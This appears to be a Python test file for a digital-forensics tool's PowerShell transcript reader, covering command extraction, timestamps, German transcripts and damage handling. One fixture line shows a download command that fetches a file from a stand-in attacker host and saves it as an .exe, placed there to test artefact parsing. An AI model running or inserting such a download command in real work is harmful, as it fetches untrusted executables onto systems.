"""PowerShell transcripts."""

from __future__ import annotations

from tests.evidence.artefact_kit import bears_damage, read_member, read_place, shows_plant
from tests.evidence_kit import read_bytes

from nachsorge.evidence.identify import reader_for
from nachsorge.evidence.readers.powershell_transcript import PowershellTranscript
from nachsorge.model.times import parse_instant
from nachsorge.model.words import Kind, Status, Telemetry

ROW = "**********************\r\n"
LOG = (
    f"{ROW}Windows PowerShell transcript start\r\nStart time: 20230328104000\r\nUsername: CORP\\ann\r\n"
    f"Machine: PC7 (Microsoft Windows NT 10.0.19045.0)\r\nPSVersion: 5.1\r\n{ROW}"
    "PS C:\\Users\\ann> iwr http://evil.example/x -OutFile C:\\x y\\e.exe\r\nanswer.example\r\n"
).encode()
GERMAN = (
    f"\ufeff{ROW}Start der Windows PowerShell-Aufzeichnung\r\nStartzeit: 20230328104000\r\n"
    f"Computer: PC8 (Microsoft Windows NT 10.0.19045.0)\r\nPSVersion: 5.1\r\n{ROW}PS>whoami\r\n"
).encode()


def test_commands_and_answers():
    records, reading = read_member(PowershellTranscript(), LOG)
    command, answer = records[-2:]
    assert command.event == {"command": "iwr http://evil.example/x -OutFile C:\\x y\\e.exe"}
    assert {(Kind.URL, "http://evil.example/x"), (Kind.PATH, "C:\\x y\\e.exe")} <= {
        (value.kind, value.text) for value in command.values
    }
    assert answer.event == {"line": "answer.example"}
    assert {record.telemetry for record in records} == {Telemetry.PROGRAM_EXECUTION}
    assert command.time == parse_instant("2023-03-28T10:40:00Z")
    assert (reading.asset, reading.status, reading.seen[0].spans) == ("pc7", Status.READ, ())
    assert "local" in reading.note


def test_another_language():
    assert PowershellTranscript().accepts(GERMAN, "x") == 93
    records, reading = read_member(PowershellTranscript(), GERMAN)
    assert (records[-1].event, reading.asset) == ({"command": "whoami"}, "pc8")
    assert records[-1].time is not None


def test_times_do_not_depend_on_the_sieve():
    every, whole = read_bytes(PowershellTranscript(), LOG)
    some, ledger = read_bytes(PowershellTranscript(), LOG, b"answer.example")
    assert some == [every[-1]] and ledger.seen() == whole.seen()


def test_who_accepts():
    assert reader_for(LOG, "x.txt").name == "powershell_transcript"
    assert PowershellTranscript().accepts(ROW.encode() + b"other", "x") == 0


def test_the_real_one(shared_data):
    place = shared_data / "plaso-host-artefacts/powershell_transcript.txt"
    records, reading = read_place(PowershellTranscript(), place, None)
    assert {"command": "whoami"} in [record.event for record in records]
    assert (reading.asset, reading.status) == ("msedgewin10", Status.READ)
    assert {record.time for record in records} == {parse_instant("2022-07-21T02:37:49Z")}


def test_damage_and_plant():
    bears_damage(PowershellTranscript(), LOG)
    shows_plant(PowershellTranscript(), LOG)
